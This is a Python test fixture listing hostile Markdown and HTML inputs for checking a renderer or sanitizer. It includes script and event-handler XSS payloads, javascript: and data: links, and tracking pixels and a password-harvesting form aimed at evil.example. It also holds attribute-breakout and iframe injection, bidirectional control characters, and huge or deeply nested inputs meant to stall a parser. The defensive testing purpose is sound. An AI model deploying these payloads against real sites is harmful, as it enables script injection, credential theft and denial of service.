"""Texts that try to act, to load something, to hide something or to break a page."""

from __future__ import annotations

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "javascript link": "[go](javascript:alert(1)) [go](JaVaScRiPt:alert(1)) <javascript:alert(1)>",
    "data link": "[go](data:text/html;base64,PHNjcmlwdD4=) [go](vbscript:x) [go](file:///etc/x)",
    "defined link": "[a]: javascript:alert(1)\n\n[a] and [//]: # (hidden words)",
    "own host": "[go](//evil.example/x) [go](/api/v1/me) [go](../x) [go](#b-1)",
    "pixel": "![pixel](https://evil.example/p.png) ![](//evil.example/q) ![x](data:image/png,x)",
    "picture in a link": "[![a](https://evil.example/p.png)](https://evil.example)",
    "svg": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "form": "<form action=//evil.example><input name=password><button>Go</button></form>",
    "attributes that act": "<div hx-get=/api/v1/me hx-trigger=load style=top:0>x</div>",
    "bidirectional marks": "\u202ereversed\u202c \u2066apart\u2069 &#x202e; \x1b[31m \x00 \u200b",
    "nested fences": "````html\n```\n</code></pre><script>alert(1)</script>\n```\n````\n",
    "wide table": "|a" * 10_000 + "|\n" + "|-" * 10_000 + "|\n" + "|b" * 10_000 + "|\n",
    "endless words": "W" * 100_000 + "\n\n`" + "c" * 50_000 + "`\n\n# " + "H" * 50_000,
    "broken out": '</main><iframe src=//e.org></iframe>[x](https://e.org/" onclick="alert(1))',
    "styles and frames": "<style>body{background:url(//evil.example)}</style><base href=//e.org>",
    "endless brackets": "see [" + "![" * 200_000,
    "deep nesting": ">" * 10_000 + "\n" + "- " * 3_000 + "deepest\n" + "[" * 3_000 + "**" * 3_000,
}
